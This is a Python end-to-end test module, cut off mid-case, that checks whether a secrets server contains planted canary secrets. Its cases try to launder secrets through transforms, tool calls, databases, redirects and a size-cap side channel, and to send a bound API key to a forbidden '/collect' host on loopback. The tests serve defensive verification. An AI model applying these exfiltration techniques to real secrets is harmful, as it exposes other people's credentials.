"""Containment, tested as the attacker would try it: a ``tasks:run`` key against planted
canaries, through a real ``strongroom serve`` process, on SQLite and on PostgreSQL.

The attacker's key may run tasks and nothing else. The tenant holds secrets whose values
are canaries (``tests/canaries.py``): values, and 4-character slices of them, that cannot
occur anywhere by chance. The attacker's tasks transform the secrets every way the
expression language allows, send them to tools (an HTTP echo on 127.0.0.1, a fake
OpenAI-compatible server, SQLite in the tenant's tool directory, a PostgreSQL database of
this module's own), store them and read them back, fail on them, cancel a run, run past
the size caps, and try to move a use-only, destination-bound secret elsewhere. Then every
answer the test received, the server's log and output, every byte of its database (SQLite
files with their journals and DBOS's, or every row of every PostgreSQL schema) and every
file under the server's directory are searched for every form of every canary.

One scenario per backend (a module-scoped fixture) does all the work once; the tests
below read what it found, so a failure names its case
(``test_case[sqlite-http_webhook_url_bare]``). The PostgreSQL server of
``STRONGROOM_TEST_POSTGRES_URL`` is needed on both backends (the tasks query a database
of their own on it); without one the module is skipped, and fails under ``CI=true``.
"""

from __future__ import annotations

import base64
import json
import os
import re
import secrets as random
import signal
import sqlite3
import threading
import time
import urllib.parse
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import psycopg
import pytest
from pydantic import SecretStr

from strongroom.server.apikeys import create_api_key
from strongroom.server.services import open_services
from strongroom.server.settings import Settings

from .canaries import (
    ALPHABET,
    Canary,
    Scanner,
    alpha,
    basic_auth,
    hexadecimal,
    numeric,
    service_json,
)
from .conftest import BACKENDS, MASTER_KEY, POSTGRES_URL
from .support import ServerProcess, TcpRelay, free_port, postgres_rows, start_server, wait_until
from .upstream import Upstream, at, openai_upstream

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(900)]

DEADLINE = 90.0  # seconds any one condition may take to come true
MAX_STEPS = 40
MAX_EXECUTION_BYTES = 3 * 1024 * 1024
ENDED = ("succeeded", "failed", "cancelled")
PG = urllib.parse.urlsplit(POSTGRES_URL)  # the test server: the tool database lives there too
ANY = "<any>"  # an expected step output that is not compared


def marker(*names: str) -> str:
    return "[REDACTED:" + ",".join(sorted(names)) + "]"


def withheld(step: int, names: str, where: str = "expression") -> str:
    return (
        f"steps[{step}].{where}: the expression failed on a value derived from secrets "
        f"({names}); the reason is withheld because it could describe the value"
    )


def tool_withheld(tool: str, code: str, names: str) -> re.Pattern[str]:
    """The message of a tool error from a call that carried secrets as data (an upstream's
    HTTP status may follow the code)."""
    return re.compile(
        re.escape(f"{tool} failed ({code}")
        + r"(, HTTP \d{3})?"
        + re.escape(
            f"); the message is withheld because the call carried values derived from "
            f"secrets: [REDACTED:{names}]"
        )
    )


# -- an HTTP upstream that answers with what it received -----------------------------------------
@dataclass
class Received:
    method: str
    path: str
    headers: dict[str, str]
    body: bytes

    def dump(self) -> dict[str, Any]:
        return {
            "method": self.method,
            "path": self.path,
            "headers": self.headers,
            "body": self.body.decode("utf-8", "replace"),
        }


@dataclass
class Echo:
    """``/redirect?to=URL`` answers 302 to URL; ``/status/400...`` answers 400 quoting the
    request; ``/binary...`` answers bytes that are not text holding it; ``/deep...``
    answers JSON nested 200,000 deep; anything else answers 200 with a JSON copy of the
    request. ``seen`` keeps every request."""

    base_url: str
    port: int
    seen: list[Received] = field(default_factory=list)

    def raw(self) -> bytes:
        return b"\n".join(json.dumps(r.dump()).encode() + b"\n" + r.body for r in self.seen)


@contextmanager
def echo_upstream() -> Iterator[Echo]:
    lock = threading.Lock()
    state: list[Echo] = []

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, format: str, *args: Any) -> None:
            pass

        def answer(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length) if length else b""
            received = Received(
                self.command, self.path, {k.lower(): v for k, v in self.headers.items()}, body
            )
            with lock:
                state[0].seen.append(received)
            status, kind, headers = 200, "application/json", {}
            payload = json.dumps(received.dump()).encode()
            if self.path.startswith("/redirect"):
                query = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)
                status, headers, payload = 302, {"Location": query["to"][0]}, b""
            elif self.path.startswith("/status/400"):
                status = 400
                payload = json.dumps({"error": "cannot use this", "received": received.dump()})
                payload = payload.encode()
            elif self.path.startswith("/deep"):
                payload = b"[" * 200_000 + b"]" * 200_000
            elif self.path.startswith("/binary"):
                kind, payload = "application/octet-stream", b"\xff\xfe\x00" + payload
            self.send_response(status)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(payload)))
            for name, value in headers.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(payload)

        do_GET = do_POST = do_PUT = do_DELETE = do_PATCH = answer

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    port = int(server.server_address[1])
    state.append(Echo(f"http://127.0.0.1:{port}", port))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield state[0]
    finally:
        server.shutdown()
        server.server_close()


def closed_port() -> int:
    """A loopback port nothing listens on (bound, then closed)."""
    return free_port()


# -- what each task is, and what it must show ------------------------------------------------------
@dataclass(frozen=True)
class Ctx:
    """Where the tasks' tools go."""

    echo: str  # A: the upstream the Stripe-like secret may go to
    other: str  # B: where it must not go
    launder: str  # C: where a value that came back from A is sent on
    openai: str
    blocking: str
    relay_port: int  # the tool PostgreSQL database, through a relay of its own
    tool_db: str
    closed: int
    own_db: str  # strongroom's own PostgreSQL database name ("" on SQLite)
    # Upstreams that only ever get secrets as credentials. A place that was sent a secret
    # as data holds it from then on (tasks/held.py): every later answer of A, or of the
    # relay, is marked, and the cases that show a credential's answer unmarked need places
    # no data use ever reached.
    auth: str
    auth_openai: str
    auth_relay_port: int

    def pg(self, **more: Any) -> dict[str, Any]:
        return {
            "host": "127.0.0.1",
            "port": self.relay_port,
            "user": PG.username or "postgres",
            "database": self.tool_db,
            **more,
        }

    def pg_auth(self, **more: Any) -> dict[str, Any]:
        return self.pg(port=self.auth_relay_port, **more)


Steps = Callable[[Ctx], list[dict[str, Any]]]


@dataclass(frozen=True)
class Case:
    label: str
    steps: Steps
    status: str = "succeeded"
    outputs: tuple[Any, ...] | None = None  # every step's shown output, ANY to skip one
    error: tuple[int, str, str | re.Pattern[str] | None] | None = None  # step, code, message
    check: Callable[[Scenario, Run], None] | None = None
    phase: int = 1  # 2: runs after every phase-1 run has ended
    backends: tuple[str, ...] = BACKENDS


def T(expression: Any, **more: Any) -> dict[str, Any]:
    return {"kind": "transform", "expression": expression, **more}


def http(url: str, secret_name: str | None = None, **arguments: Any) -> dict[str, Any]:
    step: dict[str, Any] = {
        "kind": "tool_call",
        "tool": "http",
        "operation": "request",
        "arguments": {"url": url, "timeout": 10, **arguments},
    }
    if secret_name:
        step["secret_name"] = secret_name
    return step


def chat(base_url: str, content: str, secret_name: str | None = None) -> dict[str, Any]:
    step: dict[str, Any] = {
        "kind": "tool_call",
        "tool": "openai",
        "operation": "chat",
        "arguments": {
            "model": "m",
            "base_url": base_url,
            "timeout": 20,
            "messages": [{"role": "user", "content": content}],
        },
    }
    if secret_name:
        step["secret_name"] = secret_name
    return step


def db(
    connection: dict[str, Any], query: str | None, secret_name: str | None = None, **more: Any
) -> dict[str, Any]:
    arguments: dict[str, Any] = {"connection": connection, "timeout": 10, **more}
    if query is not None:
        arguments["query"] = query
    step: dict[str, Any] = {
        "kind": "tool_call",
        "tool": "database",
        "operation": "query",
        "arguments": arguments,
    }
    if secret_name:
        step["secret_name"] = secret_name
    return step


SQLITE = {"url": "sqlite:///rt.db"}


def one(expression: str, *names: str, label: str) -> Case:
    """A one-step transform whose single expression touches secrets: it shows the marker."""
    return Case(label, lambda c: [T(expression)], outputs=(marker(*(names or ("k",))),))


def fails(
    label: str, steps: Steps, step: int, code: str, message: str | re.Pattern[str] | None
) -> Case:
    return Case(label, steps, status="failed", error=(step, code, message))


def refused(label: str, steps: Steps, step: int = 0) -> Case:
    return Case(label, steps, status="failed", error=(step, "policy_refused", None))


# checks of a run beyond its status and outputs
def _json_header(run: Run, step: int, header: str) -> Any:
    return run.outputs[step]["json"]["headers"][header]


def check_header_bare(s: Scenario, run: Run) -> None:
    assert run.outputs[0]["status"] == 200
    assert _json_header(run, 0, "x-key") == marker("k")
    assert run.outputs[1] == marker("k").lower()
    assert s.find_in(s.auth.raw(), "k"), "the echo did not receive the header"


def check_secret_name(s: Scenario, run: Run) -> None:
    assert _json_header(run, 0, "authorization") == f"Bearer {marker('k')}"
    assert run.outputs[1] == f"Bearer {marker('k')}"[::-1]


def check_openai_credential(s: Scenario, run: Run) -> None:
    assert run.outputs[0]["content"] == "echo: hello"
    sent = [r for r in s.auth_openai.seen if r.body["messages"][0]["content"] == "echo: hello"]
    assert sent
    assert sent[0].headers["authorization"] == f"Bearer {s.values['k']}"


def check_pg_credential(s: Scenario, run: Run) -> None:
    assert run.outputs[0]["rows"] == [[PG.username or "postgres"]]


def check_allowed_credential(s: Scenario, run: Run) -> None:
    assert _json_header(run, 0, "authorization") == f"Bearer {marker('stripe_key')}"
    assert any(
        r.headers.get("authorization") == f"Bearer {s.values['stripe_key']}" for r in s.auth.seen
    ), "the allowed upstream did not get the key"


def check_allowed_data(s: Scenario, run: Run) -> None:
    # sent as data, even where the policy allows: the answer is marked whole
    assert shows(run.outputs[0], marker("stripe_key"))


def check_launder(s: Scenario, run: Run) -> None:
    check_reached_c(s, "/collect", "stripe_key")


def check_reached_c(s: Scenario, path: str, label: str) -> None:
    sent = b"\n".join(r.body for r in s.launder.seen if r.path == path)
    found = s.find_in(sent, label)
    assert found == [], f"{label} reached a host its policy does not list: {found}"


def check_marked_rows(run: Run, name: str) -> None:
    assert shows(run.outputs[0], marker(name)), run.outputs


def check_pg_allowed(s: Scenario, run: Run) -> None:
    assert run.outputs[0]["rows"] == [[1]]


def check_not_internal(run: Run) -> None:
    assert run.error.get("code") != "internal", run.error


def check_own_refused(s: Scenario, run: Run) -> None:
    assert run.error["code"] in ("egress_refused", "not_allowed"), run.error


# One run, one number: the result is 1.2 MB and some, the "some" being 1000 times the
# position of the secret's sixth character (``k[5]``) in the canary alphabet. A refusal
# that gives the byte count gives the character.
CHAR_LENGTHS = {char: 1000 * (i + 1) for i, char in enumerate(ALPHABET)}
CHAR_SIZE = "$ ['y' * 600000, 'y' * 600000, 'z' * get(" + repr(CHAR_LENGTHS) + ", secrets.k[5], 0)]"


def char_from(message: str) -> str | None:
    """The character a result_too_large message gives away, if it gives its size."""
    found = re.search(r"result is (\d+) bytes", message)
    if found is None:
        return None
    base = len(
        json.dumps(
            {"value": ["y" * 600000, "y" * 600000, ""], "taint": [[[], ["k"]]]},
            separators=(",", ":"),
        )
    )
    extra = int(found.group(1)) - base
    matches = [char for char, length in CHAR_LENGTHS.items() if length == extra]
    return matches[0] if matches else None


def own_database(host: str) -> Steps:
    """A query of strongroom's own PostgreSQL database, at ``host`` and its port."""

    def steps(c: Ctx) -> list[dict[str, Any]]:
        connection = {
            "host": host,
            "port": PG.port or 5432,
            "user": PG.username or "postgres",
            "database": c.own_db,
        }
        return [db(connection, "SELECT count(*) FROM secrets")]

    return steps


def own_file(url: str) -> Steps:
    """A query of a SQLite file that is (a link to) one of strongroom's own."""
    return lambda c: [db({"url": url}, "SELECT count(*) FROM sqlite_master")]


CASES: list[Case] = [
    # -- the security review's cases ------------------------------------------------------------
    one("$ split(secrets.basic_auth, ':')", "basic_auth", label="review_split_basic_auth"),
    one("$ json_loads(secrets.svc_json)", "svc_json", label="review_json_loads"),
    one(
        "$ json_loads(secrets.svc_json)['client_secret']", "svc_json", label="review_client_secret"
    ),
    one("$ secrets.k[0:7]", label="review_slice_0_7"),
    one("$ secrets.k[7:14]", label="review_slice_7_14"),
    one("$ secrets.k[::-1]", label="review_reversed"),
    one("$ secrets.k[::2]", label="review_stride_2"),
    one("$ {secrets.k[::-1]: 1}", label="review_dict_key_reversed"),
    one("$ {lower(secrets.k): 'v'}", label="review_dict_key_lower"),
    one("$ int(secrets.hex, 16)", "hex", label="review_int_hex_16"),
    one("$ int(secrets.pin) + 1", "pin", label="review_int_pin_plus_1"),
    Case(
        "review_sqlite_lower_param",
        lambda c: [db(SQLITE, "SELECT lower(?) AS v", params=["$ secrets.k"])],
        outputs=(marker("k"),),
    ),
    Case(
        "review_pg_lower_param",
        lambda c: [db(c.pg(), "SELECT lower(%s) AS v", params=["$ secrets.k"])],
        outputs=(marker("k"),),
    ),
    fails(
        "review_sqlite_table_named_by_secret",
        lambda c: [db(SQLITE, "$ f'SELECT * FROM {lower(secrets.k)}'")],
        0,
        "database_error",
        tool_withheld("database/query", "database_error", "k"),
    ),
    fails(
        "review_pg_table_named_by_secret",
        lambda c: [db(c.pg(), "$ f'SELECT * FROM {lower(secrets.k)}'")],
        0,
        "database_error",
        tool_withheld("database/query", "database_error", "k"),
    ),
    # -- transformations ------------------------------------------------------------------------
    one("$ upper(secrets.k)", label="upper"),
    one("$ lower(secrets.k)", label="lower"),
    one("$ strip(secrets.k, 'Qz')", label="strip"),
    one("$ replace(secrets.k, 'Q', '-')", label="replace"),
    one("$ join('-', [secrets.k, 'x'])", label="join"),
    one("$ split(secrets.basic_auth, ':')[0]", "basic_auth", label="split_user"),
    one("$ split(secrets.basic_auth, ':')[1]", "basic_auth", label="split_password"),
    one("$ split(secrets.hook_url, '/')[-1]", "hook_url", label="split_url_path"),
    one("$ f'{secrets.k:>60}'", label="fstring_pad"),
    one("$ f'{secrets.k!r}'", label="fstring_repr"),
    one("$ f'{secrets.k:.5}'", label="fstring_precision"),
    one("$ f'pre-{secrets.k}-post'", label="fstring_embed"),
    one("$ 'a' + secrets.k + 'b'", label="concat"),
    one("$ secrets.k * 3", label="repeat"),
    one("$ b64encode(secrets.k)", label="b64encode"),
    one("$ b64decode(b64encode(secrets.k))", label="b64_round_trip"),
    one("$ quote(secrets.basic_auth)", "basic_auth", label="quote"),
    one("$ urlencode({'a': secrets.k})", label="urlencode"),
    one("$ json_dumps(secrets.k)", label="json_dumps"),
    one("$ json_loads(json_dumps([secrets.k]))[0]", label="json_round_trip"),
    one("$ len(secrets.k)", label="len"),
    one("$ secrets.k[0] == 'x'", label="compare_first_char"),
    one("$ secrets.k > 'm'", label="compare_order"),
    one("$ startswith(secrets.k, 'Qz')", label="startswith"),
    one("$ endswith(secrets.k, 'Xj')", label="endswith"),
    one("$ 'x' in secrets.k", label="contains"),
    one("$ min(secrets.k)", label="min_char"),
    one("$ max(secrets.k)", label="max_char"),
    one("$ max(split(secrets.basic_auth, ':'))", "basic_auth", label="max_of_split"),
    one("$ get({'Q': 1, 'q': 2}, secrets.k[0], 0)", label="get_first_char"),
    one("$ get({secrets.k: 1}, 'x', 'none')", label="get_secret_key"),
    one("$ secrets.k and 1", label="and"),
    one("$ secrets.k or 'x'", label="or"),
    one("$ 'a' if secrets.k[0] == 'g' else 'b'", label="conditional"),
    one("$ split(strip(replace(secrets.k, '', ' ')), ' ')", label="characters"),
    one("$ len(secrets.k) * 2 + 1", label="length_arithmetic"),
    one("$ round(len(secrets.k) / 3)", label="round"),
    one("$ abs(0 - len(secrets.k))", label="abs"),
    one("$ int(len(secrets.k))", label="int_of_len"),
    one("$ len(secrets.k) * 0", label="times_zero"),
    one("$ secrets.k == secrets.k", label="compare_itself"),
    one("$ ['a', 'b', 'c'][len(secrets.k) % 3]", label="index_by_secret"),
    one("$ 'abcdefghij'[0:len(secrets.k) % 7]", label="slice_bound_by_secret"),
    one("$ f\"{'x':>{len(secrets.k)}}\"", label="format_width_by_secret"),
    one("$ {'a': [secrets.k]}", label="nested"),
    one("$ str(int(secrets.pin) - 1)", "pin", label="pin_minus_1"),
    one("$ float(secrets.pin)", "pin", label="pin_float"),
    one("$ f'{int(secrets.pin) + 1:,}'", "pin", label="pin_grouped"),
    one("$ f'{int(secrets.pin):x}'", "pin", label="pin_hex"),
    one("$ f'{int(secrets.hex, 16):o}'", "hex", label="hex_octal"),
    one("$ f'{int(secrets.hex, 16):b}'", "hex", label="hex_binary"),
    one("$ int(secrets.k, 36)", label="base_36"),
    one("$ bool(secrets.k)", label="bool"),
    one("$ json_loads(secrets.svc_json)['client_id']", "svc_json", label="client_id"),
    one("$ secrets.api_key[100:128]", "api_key", label="api_key_tail"),
    one("$ secrets.zz_key + secrets.aa_key", "aa_key", "zz_key", label="two_secrets"),
    # -- templates, and values carried from step to step ----------------------------------------
    Case(
        "template_object",
        lambda c: [
            T({"a": "$ secrets.k", "b": "$ input", "c": "plain", "n": 3}, input="hello"),
        ],
        outputs=({"a": marker("k"), "b": "hello", "c": "plain", "n": 3},),
    ),
    Case(
        "template_list",
        lambda c: [T(["$ lower(secrets.k)", "$ 1 + 1", "x"])],
        outputs=([marker("k"), 2, "x"],),
    ),
    Case(
        "step_input_secret",
        lambda c: [T("$ input[::-1]", input="$ secrets.k")],
        outputs=(marker("k"),),
    ),
    Case(
        "carry_outputs",
        lambda c: [T("$ secrets.k", output="x"), T("$ 'clean'"), T("$ lower(outputs.x)[::-1]")],
        outputs=(marker("k"), "clean", marker("k")),
    ),
    Case(
        "carry_steps_index",
        lambda c: [T("$ secrets.k"), T("$ 1"), T("$ upper(steps[0])")],
        outputs=(marker("k"), 1, marker("k")),
    ),
    Case(
        "carry_previous",
        lambda c: [T("$ secrets.k"), T("$ _[3:9]"), T("$ _ + 'x'")],
        outputs=(marker("k"),) * 3,
    ),
    Case(
        "carry_template_slots",
        lambda c: [
            T({"s": "$ secrets.k", "c": "$ 'ok'"}, output="t"),
            T("$ outputs.t['c']"),
            T("$ outputs.t['s'][::-1]"),
        ],
        outputs=({"s": marker("k"), "c": "ok"}, "ok", marker("k")),
    ),
    Case(
        "carry_all_steps",
        lambda c: [T("$ secrets.k"), T("$ json_dumps(steps)")],
        outputs=(marker("k"),) * 2,
    ),
    # -- tools: the HTTP echo --------------------------------------------------------------------
    Case(
        "http_body",
        lambda c: [
            http(f"{c.echo}/echo", method="POST", json={"v": "$ secrets.k"}),
            T("$ lower(_['json']['body'])"),
            T("$ _[::-1]"),
        ],
        outputs=(marker("k"),) * 3,
    ),
    Case(
        "http_query",
        lambda c: [
            http(f"{c.echo}/echo", params={"q": "$ secrets.k"}),
            T("$ lower(_['json']['path'])"),
        ],
        outputs=(marker("k"),) * 2,
    ),
    Case(
        "http_header_bare",
        lambda c: [
            http(f"{c.auth}/echo", headers={"X-Key": "$ secrets.k"}),
            T("$ lower(_['json']['headers']['x-key'])"),
        ],
        check=check_header_bare,
    ),
    Case(
        "http_header_fstring",
        lambda c: [
            http(f"{c.echo}/echo", headers={"Authorization": "$ f'Bearer {secrets.k}'"}),
            T("$ _['json']['headers']['authorization'][::-1]"),
        ],
        outputs=(marker("k"),) * 2,
    ),
    Case(
        "http_url_path_fstring",
        lambda c: [
            http("$ f'" + c.echo + "/p/{secrets.k}'"),
            T("$ _['json']['path'][::-1]"),
        ],
        outputs=(marker("k"),) * 2,
    ),
    # the URL a data use builds is logged by the HTTP client: a transformed value in it
    Case(
        "http_url_path_reversed",
        lambda c: [http("$ f'" + c.echo + "/reversed/{secrets.k[::-1]}'")],
        outputs=(marker("k"),),
    ),
    Case(
        "http_query_reversed",
        lambda c: [http(f"{c.echo}/query-reversed", params={"q": "$ secrets.k2[::-1]"})],
        outputs=(marker("k2"),),
    ),
    Case(
        "http_large_echo",
        lambda c: [
            http(f"{c.echo}/echo", method="POST", body="$ secrets.api_key * 7000"),
            T("$ len(_['json']['body'])"),
        ],
        outputs=(marker("api_key"),) * 2,
    ),
    # an upstream's answer nested deeper than a parser recurses: a tool error, not a crash
    Case(
        "http_deeply_nested_answer",
        lambda c: [http(f"{c.echo}/deep", secret_name="k")],
        status=ANY,
        check=lambda s, run: check_not_internal(run),
    ),
    Case(
        "http_secret_name",
        lambda c: [
            http(f"{c.auth}/echo", secret_name="k"),
            T("$ _['json']['headers']['authorization'][::-1]"),
        ],
        check=check_secret_name,
    ),
    Case("http_secret_name_binary_answer", lambda c: [http(f"{c.auth}/binary", secret_name="k")]),
    Case(
        "http_400_quoting_data",
        lambda c: [http(f"{c.echo}/status/400", method="POST", json={"v": "$ lower(secrets.k)"})],
        outputs=(marker("k"),),
    ),
    fails(
        "http_connect_error_data",
        lambda c: [http("$ f'http://127.0.0.1:" + str(c.closed) + "/x?k={secrets.k}'")],
        0,
        "connect_failed",
        tool_withheld("http/request", "connect_failed", "k"),
    ),
    # a webhook URL is its own credential: the answer is not marked, and the echo quotes the
    # path, a part of the secret, which is not the whole value the redactor looks for
    Case(
        "http_webhook_url_bare",
        lambda c: [http("$ secrets.hook_url", method="POST"), T("$ _['json']['path']")],
    ),
    # a credential URL whose host does not resolve: the error names the host, lower-cased
    Case("http_url_host_bare", lambda c: [http("$ secrets.hook_host")], status="failed"),
    # -- tools: OpenAI-compatible ----------------------------------------------------------------
    Case(
        "openai_prompt_echo",
        lambda c: [chat(c.openai, "$ 'echo:' + secrets.k"), T("$ lower(_['content'])")],
        outputs=(marker("k"),) * 2,
    ),
    fails(
        "openai_400_quoting_prompt",
        lambda c: [chat(c.openai.replace("/v1", "/fail/v1"), "$ 'cannot use ' + lower(secrets.k)")],
        0,
        "upstream_error",
        tool_withheld("openai/chat", "upstream_error", "k"),
    ),
    Case(
        "openai_credential_only",
        lambda c: [chat(c.auth_openai, "echo: hello", secret_name="k")],
        check=check_openai_credential,
    ),
    # -- tools: databases ------------------------------------------------------------------------
    Case(
        "sqlite_round_trip_same_run",
        lambda c: [
            db(
                SQLITE,
                "INSERT INTO t (tag, v) VALUES ('same', ?)",
                params=["$ lower(secrets.k)"],
                read_only=False,
            ),
            db(SQLITE, "SELECT v FROM t WHERE tag = 'same'"),
            T("$ _['rows'][0][0][::-1]"),
        ],
        outputs=(marker("k"), ANY, ANY),
    ),
    Case(
        "sqlite_write_exact",
        lambda c: [
            db(
                SQLITE,
                "INSERT INTO t (tag, v) VALUES ('cross', ?)",
                params=["$ secrets.k"],
                read_only=False,
            )
        ],
        outputs=(marker("k"),),
    ),
    Case(
        "sqlite_read_back_in_another_run",
        lambda c: [db(SQLITE, "SELECT v FROM t WHERE tag = 'cross'")],
        phase=2,
        check=lambda s, run: check_marked_rows(run, "k"),
    ),
    Case(
        "pg_round_trip_same_run",
        lambda c: [
            db(
                c.pg(),
                "INSERT INTO t (tag, v) VALUES ('same', %s)",
                params=["$ lower(secrets.k)"],
                read_only=False,
            ),
            db(c.pg(), "SELECT v FROM t WHERE tag = 'same'"),
            T("$ _['rows'][0][0][::-1]"),
        ],
        outputs=(marker("k"), ANY, ANY),
    ),
    Case(
        "pg_write_exact",
        lambda c: [
            db(
                c.pg(),
                "INSERT INTO t (tag, v) VALUES ('cross', %s)",
                params=["$ secrets.k"],
                read_only=False,
            )
        ],
        outputs=(marker("k"),),
    ),
    Case(
        "pg_read_back_in_another_run",
        lambda c: [db(c.pg(), "SELECT v FROM t WHERE tag = 'cross'")],
        phase=2,
        check=lambda s, run: check_marked_rows(run, "k"),
    ),
    # the same row, through another name of the same server
    Case(
        "pg_read_back_under_another_name",
        lambda c: [db(c.pg(host="localhost"), "SELECT v FROM t WHERE tag = 'cross'")],
        phase=2,
        check=lambda s, run: check_marked_rows(run, "k"),
    ),
    Case(
        "pg_password_secret_name",
        lambda c: [db(c.pg_auth(), "SELECT current_user AS who", secret_name="pg_password")],
        check=check_pg_credential,
    ),
    Case(
        "pg_password_bare",
        lambda c: [db(c.pg_auth(password="$ secrets.pg_password"), "SELECT current_user AS who")],
        check=check_pg_credential,
    ),
    # a credential URL naming a role and a database the server does not have: the server's
    # refusal names them, and they are parts of the secret
    Case(
        "pg_url_credential_unknown_role",
        lambda c: [db({}, "SELECT 1", secret_name="pg_url")],
        status="failed",
    ),
    # a bare secret as the host: a credential use; the host does not resolve
    Case(
        "pg_host_bare",
        lambda c: [db({"host": "$ secrets.db_host", "user": "postgres"}, "SELECT 1")],
        status="failed",
    ),
    # -- errors after a secret was read ----------------------------------------------------------
    fails("error_int", lambda c: [T("$ int(secrets.k)")], 0, "expression_error", withheld(0, "k")),
    fails(
        "error_index", lambda c: [T("$ secrets.k[999]")], 0, "expression_error", withheld(0, "k")
    ),
    fails(
        "error_division_by_zero",
        lambda c: [T("$ 1 / (len(secrets.k) - len(secrets.k))")],
        0,
        "expression_error",
        withheld(0, "k"),
    ),
    fails(
        "error_json_parse",
        lambda c: [T("$ json_loads(secrets.k)")],
        0,
        "expression_error",
        withheld(0, "k"),
    ),
    fails(
        "error_missing_key",
        lambda c: [T("$ {'a': 1}[secrets.k]")],
        0,
        "expression_error",
        withheld(0, "k"),
    ),
    fails(
        "error_in_template_slot",
        lambda c: [T({"a": "$ 'fine'", "b": "$ int(secrets.k)"})],
        0,
        "expression_error",
        withheld(0, "k", "expression.b"),
    ),
    fails(
        "error_in_tool_argument",
        lambda c: [http(f"{c.echo}/echo", method="POST", json={"v": "$ int(secrets.k)"})],
        0,
        "expression_error",
        withheld(0, "k", "arguments.json.v"),
    ),
    fails(
        "error_in_a_later_step",
        lambda c: [T("$ secrets.k", output="x"), T("$ int(outputs.x)")],
        1,
        "expression_error",
        withheld(1, "k"),
    ),
    fails(
        "error_pin_division",
        lambda c: [T("$ 1 // (int(secrets.pin) - int(secrets.pin))")],
        0,
        "expression_error",
        withheld(0, "pin"),
    ),
    # one failure per run: the first step fails, the others never run
    fails(
        "one_failure_per_run",
        lambda c: [
            T("$ 1 // (len(secrets.k) > 1000)"),
            T("$ 1 // (len(secrets.k) > 2000)"),
            T("$ 'never'"),
        ],
        0,
        "expression_error",
        withheld(0, "k"),
    ),
    fails(
        "error_in_step_input",
        lambda c: [T("$ input", input="$ int(secrets.k)")],
        0,
        "expression_error",
        withheld(0, "k", "input"),
    ),
    # -- the size caps ---------------------------------------------------------------------------
    fails(
        "result_over_cap_k",
        lambda c: [T("$ [lower(secrets.k)] * 30000")],
        0,
        "result_too_large",
        None,
    ),
    fails(
        "result_over_cap_k2",
        lambda c: [T("$ [lower(secrets.k2)] * 30000")],
        0,
        "result_too_large",
        None,
    ),
    fails(
        "execution_over_cap_k",
        lambda c: [T("$ lower(secrets.k) * 100 + 'y' * 900000")] * 4,
        3,
        "execution_too_large",
        None,
    ),
    fails(
        "execution_over_cap_k2",
        lambda c: [T("$ lower(secrets.k2) * 100 + 'y' * 900000")] * 4,
        3,
        "execution_too_large",
        None,
    ),
    # a byte count that depends on a character of the secret
    fails(
        "result_over_cap_by_a_character",
        lambda c: [T(CHAR_SIZE)],
        0,
        "result_too_large",
        None,
    ),
    Case(
        "near_the_cap",
        lambda c: [T("$ lower(secrets.api_key) * 7000"), T("$ 1")],
        outputs=(marker("api_key"), 1),
    ),
    # -- the use-only, destination-bound secret --------------------------------------------------
    Case(
        "policy_allowed_credential",
        lambda c: [http(f"{c.auth}/charges", method="POST", secret_name="stripe_key")],
        check=check_allowed_credential,
    ),
    Case(
        "policy_allowed_data",
        lambda c: [http(f"{c.echo}/charges", method="POST", json={"k": "$ secrets.stripe_key"})],
        check=check_allowed_data,
    ),
    # the allowed upstream answers with what it was sent: a value derived from the key
    Case(
        "policy_allowed_upstream_echoes_derived_value",
        lambda c: [
            http(f"{c.echo}/charges", method="POST", json={"k": "$ lower(secrets.stripe_key)"})
        ],
    ),
    Case(
        "policy_allowed_upstream_echoes_reversed_value",
        lambda c: [
            http(f"{c.echo}/charges", method="POST", json={"k": "$ secrets.stripe_key[::-1]"})
        ],
    ),
    Case(
        "policy_allowed_upstream_echoes_a_slice",
        lambda c: [
            http(f"{c.echo}/charges", method="POST", json={"k": "$ secrets.stripe_key[8:30]"})
        ],
    ),
    refused(
        "policy_other_name_for_the_allowed_host",
        lambda c: [
            http(
                c.echo.replace("127.0.0.1", "localhost") + "/charges",
                method="POST",
                secret_name="stripe_key",
            )
        ],
    ),
    refused(
        "policy_via_step_input",
        lambda c: [
            {
                **http(f"{c.other}/collect", method="POST", json={"v": "$ input"}),
                "input": "$ secrets.stripe_key",
            }
        ],
    ),
    Case(
        "policy_via_previous_result",
        lambda c: [
            T({"a": "$ secrets.stripe_key[::-1]", "b": "$ 'clean'"}),
            http(f"{c.other}/collect", method="POST", json={"v": "$ _['a']"}),
        ],
        status="failed",
        outputs=({"a": marker("stripe_key"), "b": "clean"},),
        error=(1, "policy_refused", None),
    ),
    refused(
        "policy_other_secret_name",
        lambda c: [http(f"{c.other}/collect", method="POST", secret_name="stripe_key")],
    ),
    refused(
        "policy_other_json_derived",
        lambda c: [
            http(f"{c.other}/collect", method="POST", json={"k": "$ lower(secrets.stripe_key)"})
        ],
    ),
    refused(
        "policy_other_header_bare",
        lambda c: [http(f"{c.other}/collect", headers={"Authorization": "$ secrets.stripe_key"})],
    ),
    refused(
        "policy_other_url_fstring",
        lambda c: [http("$ f'" + c.other + "/collect?k={secrets.stripe_key}'")],
    ),
    refused(
        "policy_openai_credential",
        lambda c: [chat(f"{c.other}/v1", "hello", secret_name="stripe_key")],
    ),
    refused(
        "policy_openai_prompt",
        lambda c: [chat(f"{c.other}/v1", "$ 'echo:' + secrets.stripe_key")],
    ),
    refused(
        "policy_sqlite_param",
        lambda c: [db(SQLITE, "SELECT ?", params=["$ secrets.stripe_key"])],
    ),
    refused(
        "policy_pg_password",
        lambda c: [db(c.pg(password="$ secrets.stripe_key"), "SELECT 1")],
    ),
    Case(
        "policy_derived_value_next_step",
        lambda c: [
            T("$ lower(secrets.stripe_key)", output="x"),
            http(f"{c.other}/collect", method="POST", json={"v": "$ outputs.x"}),
        ],
        status="failed",
        outputs=(marker("stripe_key"),),
        error=(1, "policy_refused", None),
    ),
    refused(
        "policy_redirect_credential",
        lambda c: [
